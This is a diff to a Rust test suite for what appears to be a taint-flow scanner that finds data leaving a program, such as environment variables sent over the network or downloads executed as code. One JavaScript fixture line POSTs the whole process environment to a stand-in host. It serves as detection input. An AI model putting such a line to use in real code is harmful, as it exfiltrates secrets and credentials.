@@ -172,6 +172,16 @@ fn serialised_spread_and_generated_values_keep_their_sources() {
         assert!(found.iter().any(|(o, s, k, _, _)| (o.as_str(), *s, *k) == expected), "{expected:?} not in {found:?}");
     }
     assert_eq!(found.len(), 5, "{found:?}");
+    assert_eq!(
+        found,
+        vec![
+            ("a".to_string(), Environment, Network, 3, 3),
+            ("b".to_string(), Environment, Network, 5, 5),
+            ("c".to_string(), NetworkDownload, CodeExecution, 7, 7),
+            ("d".to_string(), BrowserData, Network, 9, 10),
+            ("e".to_string(), HostInfo, Network, 12, 12),
+        ]
+    );
     let js = "fetch('https://c.example/x', {method: 'POST', body: JSON.stringify({...process.env})});\n";
     assert_eq!(flows(js, JavaScript), vec![("<module>".to_string(), Environment, Network, 1, 1)]);
 }
